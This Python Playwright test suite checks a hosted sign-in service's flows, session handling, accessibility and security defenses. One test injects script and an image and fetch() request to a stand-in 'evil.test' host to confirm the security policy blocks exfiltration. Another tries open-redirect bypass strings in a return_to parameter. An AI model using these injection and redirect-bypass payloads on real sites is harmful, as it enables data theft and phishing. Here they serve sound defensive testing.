"""The hosted pages in a real browser: every flow, with and without JavaScript, and what helps those who cannot see."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote
from zlib import crc32

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.conftest import Complaints, NewContext
from tests.browser.sites import Elsewhere, Site, an_elsewhere

AXE = Path(__file__).parents[1] / "oracles" / "node_modules" / "axe-core" / "axe.min.js"
PASSWORD = "a walrus in seven teapots"
NEW_PASSWORD = "nine lighthouses hum a slow waltz"


@pytest.fixture(scope="module")
def app(certificate: Path) -> Iterator[Elsewhere]:
    """An application that somebody may be sent to."""
    with an_elsewhere(certificate, host="app.example.test") as running:
        running.pages["/welcome"] = "<h1>The application</h1>"
        yield running


@pytest.fixture(scope="module")
def settings(app: Elsewhere) -> dict[str, str]:
    return {"STRATEGY": "hybrid", "PAGES_NAME": "Acme", "PAGES_RETURN_TO": app.origin}


@pytest.fixture(params=[True, False], ids=["with JavaScript", "without JavaScript"])
def context(request: pytest.FixtureRequest, new_context: NewContext) -> BrowserContext:
    return new_context(java_script_enabled=request.param)


@pytest.fixture
def email(request: pytest.FixtureRequest) -> str:
    """An address for each test: they share a server."""
    return f"ada.{crc32(request.node.name.encode())}@example.com"


def sign_up(page: Page, email: str) -> None:
    page.goto("/sign-up")
    page.locator("#email").fill(email)
    page.locator("#password").fill(PASSWORD)
    page.locator("#password").press("Enter")
    page.wait_for_url("**/sessions")


def sign_in(page: Page, email: str, password: str = PASSWORD) -> None:
    page.goto("/sign-in")
    page.locator("#email").fill(email)
    page.locator("#password").fill(password)
    page.locator("#password").press("Enter")
    page.wait_for_load_state()


def test_every_flow(context: BrowserContext, new_context: NewContext, site: Site, email: str) -> None:
    page = context.new_page()
    # Whoever comes without a session is asked to sign in, and finds the way to an account.
    page.goto("/")
    expect(page).to_have_title("Sign in – Acme")
    page.get_by_role("link", name="Create an account").click()
    page.get_by_label("Name").fill("Ada")
    page.get_by_label("E-mail address").fill(email)
    page.get_by_label("Password", exact=True).fill("password1")
    page.get_by_role("button", name="Create an account").click()
    # What is wrong is said beside the field, which has the focus and is empty.
    expect(page.get_by_text("It is a common password, or close to one.")).to_be_visible()
    password = page.get_by_label("Password", exact=True)
    expect(password).to_be_focused()
    expect(password).to_have_value("")
    expect(password).to_have_accessible_description(
        "This password is guessed too easily. It is a common password, or close to one."
        " Use three or four uncommon words, or a password manager; symbols and capitals are not needed."
        " Three or four uncommon words are good, and so is what a password manager makes."
    )
    password.fill(PASSWORD)
    password.press("Enter")
    expect(page.get_by_text(f"Signed in as {email}")).to_be_visible()
    assert page.url == f"{site.origin}/sessions"

    # A second device, which this one ends.
    other = new_context(java_script_enabled=False, user_agent="Mozilla/5.0 (iPhone) Safari/604.1").new_page()
    sign_in(other, email)
    page.reload()
    page.get_by_role("button", name="Sign out Safari on iPhone").click()
    expect(page.get_by_role("status")).to_have_text("The device is signed out.")
    expect(page.get_by_role("listitem").filter(has_text="This device")).to_have_count(1)
    other.goto("/sessions")
    expect(other.get_by_role("status")).to_have_text("This device was signed out. Sign in again to continue.")
    sign_in(other, email)

    # The password, by the place that browsers know; it ends the second device again.
    page.goto("/.well-known/change-password")
    page.get_by_label("Current password", exact=True).fill(PASSWORD)
    page.get_by_label("New password", exact=True).fill(NEW_PASSWORD)
    page.get_by_role("button", name="Change your password").click()
    expect(page.get_by_role("status")).to_contain_text("Your password has been changed")
    other.goto("/sessions")
    expect(other.get_by_role("heading", name="Sign in")).to_be_visible()
    sign_in(other, email, NEW_PASSWORD)
    page.reload()
    page.get_by_role("button", name="Sign out all other devices").click()
    expect(page.get_by_role("status")).to_have_text("All other devices are signed out.")

    # Going back shows nothing that was typed, and reloading posts nothing again.
    page.reload()
    page.get_by_role("link", name="Sign out").click()
    page.get_by_role("button", name="Sign out").click()
    expect(page.get_by_role("status")).to_have_text("You are signed out.")
    page.go_back()
    page.goto("/sessions")
    expect(page.get_by_role("heading", name="Sign in")).to_be_visible()
    names = {cookie["name"] for cookie in context.cookies()}
    assert names == {"__Host-doorward_form"}
    assert "page_sign_in" in site.log
    assert not [text for text in (PASSWORD, NEW_PASSWORD, "password1", email) if text in site.log]


def test_nothing_is_asked_of_others_nor_kept_where_a_script_could_read_it(
    page: Page, site: Site, complaints: Complaints, email: str
) -> None:
    sign_up(page, email)
    page.goto("/change-password")
    assert {url.partition("//")[2].partition("/")[0] for url in complaints.requests} == {site.origin.partition("//")[2]}
    kept = page.evaluate(
        "async () => [document.cookie, JSON.stringify([localStorage, sessionStorage]), await indexedDB.databases()]"
    )
    assert kept == ["", "[{},{}]", []]


def test_markup_that_is_injected_runs_no_script_and_takes_nothing_away(page: Page, complaints: Complaints) -> None:
    page.goto("/sign-in")
    page.evaluate(
        """async () => {
            const script = document.createElement("script");
            try { script.textContent = "document.title = 'mine'"; } catch { /* trusted types */ }
            document.body.append(script);
            try { document.body.setAttribute("onclick", "document.title = 'mine'"); } catch { /* likewise */ }
            document.body.click();
            const image = document.createElement("img");
            const refused = new Promise((resolve) => { image.onerror = resolve; });
            image.src = "https://www.evil.test/?taken";
            document.body.append(image);
            await refused;
            await fetch("https://www.evil.test/?taken").catch(() => {});
        }"""
    )
    expect(page).to_have_title("Sign in – Acme")
    refused = " ".join(complaints.found)
    assert all(rule in refused for rule in ("img-src", "connect-src", "TrustedScript"))
    assert not [url for url in complaints.requests if "evil" in url and not url.endswith("?taken")]
    complaints.found.clear()


def test_a_form_leads_on_to_an_allowed_origin_and_to_no_other(
    new_context: NewContext, app: Elsewhere, evil: Elsewhere, email: str
) -> None:
    """In a browser: it holds the redirect after a form to the policy, and reads addresses in its own way."""
    context = new_context()
    page = context.new_page()
    sign_up(page, email)
    host = evil.origin.partition("//")[2]
    places = {
        f"{app.origin}/welcome": f"{app.origin}/welcome",
        "/sign-out": "/sign-out",
        f"{evil.origin}/": "/sessions",
        f"//{host}": "/sessions",
        f"/\\{host}": "/sessions",
        f"/\t/{host}": "/sessions",
        f"{app.origin}@{host}": "/sessions",
    }
    for place, expected in places.items():
        context.clear_cookies()
        page.goto(f"/sign-in?return_to={quote(place, safe='')}")
        page.get_by_label("E-mail address").fill(email)
        page.get_by_label("Password", exact=True).fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.wait_for_url(lambda url: "sign-in" not in url)
        assert expected in page.url, place
        assert "evil" not in page.url.partition("//")[2].partition("/")[0]
    assert evil.asked == []


def test_a_link_on_another_site_shows_whoever_has_signed_in_as_signed_in(
    page: Page, site: Site, evil: Elsewhere, email: str
) -> None:
    """Though the refresh cookie does not go along with the first request."""
    sign_up(page, email)
    evil.pages["/"] = f'<a href="{site.origin}/sessions">Your account</a>'
    page.goto(evil.origin)
    page.get_by_role("link").click()
    expect(page.get_by_text(f"Signed in as {email}")).to_be_visible()


def test_a_password_can_be_looked_at_and_is_a_password_again_when_it_is_sent(page: Page, email: str) -> None:
    page.goto("/sign-in")
    password = page.get_by_label("Password", exact=True)
    password.fill("seen")
    page.get_by_role("button", name="Show: Password").click()
    expect(password).to_have_attribute("type", "text")
    page.get_by_role("button", name="Hide: Password").click()
    expect(password).to_have_attribute("type", "password")
    page.get_by_role("button", name="Show: Password").click()
    page.evaluate("() => addEventListener('submit', () => { document.title = document.forms[0].password.type; })")
    page.evaluate("() => document.forms[0].addEventListener('submit', (event) => event.preventDefault())")
    page.get_by_label("E-mail address").fill(email)
    password.press("Enter")
    expect(page).to_have_title("password")


def test_the_whole_way_can_be_gone_by_keyboard(page: Page, email: str) -> None:
    sign_up(page, email)
    page.goto("/sign-out")
    page.keyboard.press("Tab")
    expect(page.get_by_role("button", name="Sign out")).to_be_focused()
    page.keyboard.press("Enter")
    # The first empty field has the focus.
    expect(page.get_by_label("E-mail address")).to_be_focused()
    page.keyboard.type(email)
    page.keyboard.press("Tab")
    page.keyboard.type(PASSWORD)
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    expect(page.get_by_role("checkbox", name="Keep me signed in")).to_be_focused()
    page.keyboard.press("Space")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.get_by_text(f"Signed in as {email}")).to_be_visible()
    (kept,) = (cookie for cookie in page.context.cookies() if cookie["name"] == "__Host-doorward_refresh")
    assert kept["expires"] > 0


@pytest.mark.skipif(not AXE.is_file(), reason="axe-core is not installed: python3 dev.py setup --all")
def test_axe_finds_nothing(new_context: NewContext, email: str) -> None:
    """By all its rules in light; in dark and narrow what may be different there."""
    page = new_context().new_page()
    dark = new_context(color_scheme="dark", locale="de-DE", viewport={"width": 320, "height": 800}).new_page()
    sign_up(page, email)
    sign_in(dark, email)
    for path in ("sessions?notice=others_ended", "change-password", "sign-out", "sign-in", "login", "sign-up"):
        page.goto(f"/{path}")
        dark.goto(f"/{path}")
        assert judged(page) == judged(dark, "color-contrast", "target-size") == []
        # Nothing hangs out of a narrow screen (WCAG 1.4.10).
        assert dark.evaluate("document.documentElement.scrollWidth <= document.documentElement.clientWidth")
        if path == "sign-up":
            for each in (page, dark):
                each.locator("#email").fill("nobody")
                each.locator("#password").fill("password")
                each.locator("main button:not([type])").click()
                each.wait_for_selector(".mistake")
            assert judged(page) == judged(dark, "color-contrast") == []


def judged(page: Page, *rules: str) -> list[str]:
    """What axe has to say of a page, by some of its rules or by all."""
    if page.evaluate("typeof axe") == "undefined":
        page.evaluate(AXE.read_text())
    options = {"resultTypes": ["violations"]} | ({"runOnly": list(rules)} if rules else {})
    found = page.evaluate("options => axe.run(options)", options)
    return [json.dumps([each["id"], [node["html"] for node in each["nodes"]]]) for each in found["violations"]]
